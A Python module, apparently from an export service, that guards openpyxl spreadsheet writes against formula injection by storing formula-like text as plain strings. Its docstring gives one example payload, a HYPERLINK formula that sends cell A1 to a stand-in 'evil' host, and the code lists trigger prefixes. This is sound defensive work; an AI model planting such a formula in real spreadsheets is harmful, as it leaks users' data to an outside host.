"""Writing spreadsheets safely (issue 6 §6: formula injection, CWE-1236).

A text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab / carriage return before one) is
a formula to Excel and to openpyxl, which stores any string starting with ``=`` as a live
formula: an enterprise named ``=HYPERLINK("http://evil/?"&A1,"点此")`` would run in the office's
Excel. Every export writes its rows through ``append_row``: such a text cell is stored as a
plain string (``data_type "s"``) and marked ``quotePrefix`` so Excel shows and keeps it as text
even when someone edits the cell. The value itself is unchanged — the name reads as entered.
"""

from openpyxl.cell.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# ASCII triggers and their full-width forms (which an NFKC-normalising reader would turn into them).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_PREFIXES)


def neutralise(cell: Cell) -> Cell:
    """Make a text cell that reads like a formula an inert string."""
    if is_formula_like(cell.value) or cell.data_type == "f":
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values) -> None:
    """``sheet.append(values)`` with every cell of the new row neutralised. A write-only sheet
    (a streamed export, issue 7 §6) cannot be read back, so its cells are neutralised before
    they are written; values may be cells already (a styled header, a number format)."""
    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for value in values:
            cell = value if isinstance(value, Cell) else WriteOnlyCell(sheet, value)
            if is_formula_like(cell.value) or cell.data_type == "f":
                cell = neutralise(cell)
            cells.append(cell)
        sheet.append(cells)
        return
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        neutralise(cell)
